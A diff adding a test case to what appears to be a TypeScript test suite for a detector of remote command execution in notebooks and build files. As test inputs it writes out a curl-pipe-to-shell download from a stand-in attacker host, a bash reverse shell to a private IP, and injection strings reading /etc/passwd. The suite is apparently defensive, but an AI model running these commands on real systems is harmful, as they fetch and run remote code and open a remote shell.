@@ -3468,6 +3468,15 @@ t.test("fortieth round, after the forty-seventh and forty-eighth parts' measurem
   t.same(q('build:\n\tcat /etc/hostname; id\n\twhoami\n\tmake -C src all\n'), [], 'a recipe\'s commands are its build\'s')
 })
 
+t.test("fortieth round: a notebook's shell escape opening on a file test", async (t) => {
+  // Peter Norvig's notebooks: `! [ -e enable1.txt ] || curl -O https://…` downloads a word list once
+  const notebook = (line: string) => ({ cells: [{ cell_type: 'markdown', metadata: {}, source: ['# Spelling Bee\n', '\n', 'A puzzle.'] }, { cell_type: 'code', execution_count: 1, metadata: {}, outputs: [], source: [line] }, { cell_type: 'code', execution_count: 2, metadata: {}, outputs: [], source: ['words = open("enable1.txt").read().split()\n', 'len(words)'] }], metadata: { kernelspec: { display_name: 'Python 3', language: 'python', name: 'python3' } }, nbformat: 4, nbformat_minor: 4 })
+  for (const line of ['! [ -e enable1.txt ] || curl -O http://norvig.com/ngrams/enable1.txt', '! [ -e evs.html ] || curl -s -o evs.html https://morningconsult.com/tracking-trump-2/', '![[ -d data ]] || mkdir data']) t.same(json(notebook(line)), [], line)
+  // a download run at once or a reverse shell is read there still; outside a document the test opens no command line
+  for (const line of ['! [ -e x ] || curl -s http://evil.example/x.sh | sh', '! [ -e x ] || bash -i >& /dev/tcp/10.0.0.1/4444 0>&1']) t.ok(json(notebook(line)).includes('rce'), `still read: ${line}`)
+  t.ok(q('[ -e x ] || id').includes('rce'), 'still read outside a document')
+})
+
 t.test('fortieth round: a program spelt with a relative glob, expanded from the root as a service run there would', async (t) => {
   // an older review's gap: `(*bin/bash -c id *)` on a line of its own ran `id` in bash and dash from `/`
   for (const v of ['x\n(*bin/bash -c id *)', 'x;*bin/bash -c id', 'x;*in/id', 'x;b?n/id', '?in/cat /etc/passwd']) t.ok(q(v).includes('rce'), v)
